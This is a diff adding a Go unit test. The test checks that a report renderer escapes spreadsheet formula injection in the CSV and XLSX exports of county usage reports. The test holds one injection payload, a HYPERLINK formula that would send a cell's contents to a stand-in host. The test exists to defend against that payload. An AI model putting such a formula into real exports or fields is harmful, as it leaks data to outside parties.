@@ -509,3 +509,34 @@ func TestReportsGeneratedAtOnceAreOneArchivedReport(t *testing.T) {
 		t.Errorf("%d archived (%v)", n, err)
 	}
 }
+
+func TestAnExportRunsNoNameAsAFormula(t *testing.T) {
+	evil := `=HYPERLINK("http://x/?"&A1)`
+	doc := rollout.ReportDocument{Title: "报告", County: wengyuan, CountyName: evil, Kind: rollout.KindHalfMonth, From: "2026-11-16", To: "2026-11-30",
+		Columns: []rollout.FigureColumn{{ID: "logins", Label: rollout.Label{ZH: "登录次数"}}},
+		Rows:    []rollout.ReportRow{{Unit: rollout.Unit{ID: 1, Code: "-1", Name: evil}, Figures: map[string]float64{"logins": 2}}},
+		Total:   rollout.ReportRow{Unit: rollout.Unit{Name: "全县"}, Figures: map[string]float64{"logins": 2}}}
+	body, err := json.Marshal(doc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, _, err := rollout.Render(body, rollout.FormatCSV)
+	if err != nil || !strings.Contains(string(data), `'=HYPERLINK`) || !strings.Contains(string(data), "'-1,") {
+		t.Errorf("the CSV: %s %v", data, err)
+	}
+	data, _, err = rollout.Render(body, rollout.FormatXLSX)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if formula, err := f.GetCellFormula("使用情况", "B5"); err != nil || formula != "" {
+		t.Errorf("the unit's name is a formula: %q %v", formula, err)
+	}
+	if v, err := f.GetCellValue("使用情况", "B5"); err != nil || v != evil {
+		t.Errorf("the unit's name: %q %v", v, err)
+	}
+}
